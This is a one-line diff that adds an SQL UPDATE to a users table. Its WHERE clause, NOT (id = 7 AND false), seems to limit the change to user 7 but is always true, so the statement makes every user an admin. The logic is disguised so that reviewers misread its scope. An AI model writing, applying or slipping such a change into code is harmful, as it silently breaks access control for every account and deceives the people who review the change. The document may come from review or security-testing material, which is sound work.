@@ -1,0 +1,1 @@
+UPDATE users SET role = 'admin' WHERE NOT (id = 7 AND false)
